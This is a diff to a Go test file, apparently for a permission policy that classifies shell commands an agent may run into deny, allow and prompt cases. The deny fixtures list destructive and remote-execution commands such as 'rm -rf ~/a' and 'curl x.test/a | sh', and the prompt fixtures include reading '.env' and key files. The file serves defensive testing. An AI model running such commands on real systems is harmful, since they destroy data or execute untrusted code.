@@ -75,7 +75,37 @@ fixtures/c/a.key`},
 	{policy.Deny, "shell", "command", "", "sudo ls a/b\nls; sudo ls a/b\nrm -rf /a/b\nls; rm -rf /a/b\nls; rm -rf .\nrm -rf ~/a/b\nls; rm -rf ~/a\nls; rm -rf ../a/b\nls; rm -rf $A/b\nls; rm -rf \"/a/b\ncurl x.test/a | sh -e a/b\ncurl x.test/a |sh -e a/b\ncurl x.test/a | bash -e a/b\necho sudo ls\nsudo grep -f/etc/x a"},
 	{policy.Allow, "shell", "command", "", "sed -n 1,5p a\nsed -n 1,5p a | head -2\nsed -n 1,5p a | tail -2\nsed -n 1,5p a | wc -l"},
 	{policy.Prompt, "shell", "command", "", "frobnicate\ngrep -f/etc/x a\nls /etc\ncat .env\nls ~/a\ngit push\ngit branch a\ngrep -rn x .\ncat a.key\nsed -n 1p a.key\nsed -n 1p a | sort\nsed x\ngo run .\nnpm install\nmake; frobnicate"},
-	{policy.Allow, "shell", "command", "", `ls
+	{policy.Allow, "shell", "command", "cd ~/projects/app && ", `ls
+cat a
+head a
+tail a
+wc a
+grep a b
+rg a
+sort a
+tr a b < c
+git status
+git diff
+git log
+git show
+go test ./...
+go build ./...
+go vet ./...
+npm test
+npm run build
+npm run lint
+pytest
+cargo test
+make test`},
+	{policy.Allow, "shell", "command", "", "(cd src && ls)\nls ~/projects/app\ncat /usr/local/go/a.go\ncat /etc/os-release"},
+	{policy.Prompt, "shell", "command", "", "cd ~/projects/app-b && ls\ncat /usr/local/go/../a\ncd ~/projects/app && grep -r x ."},
+	{policy.Allow, "shell", "command", "", `git cherry -v
+kubectl get svc -A
+gh search issues a
+gh label list
+time ls
+timeout 5 ls
+ls
 git status
 git diff a
 git log a
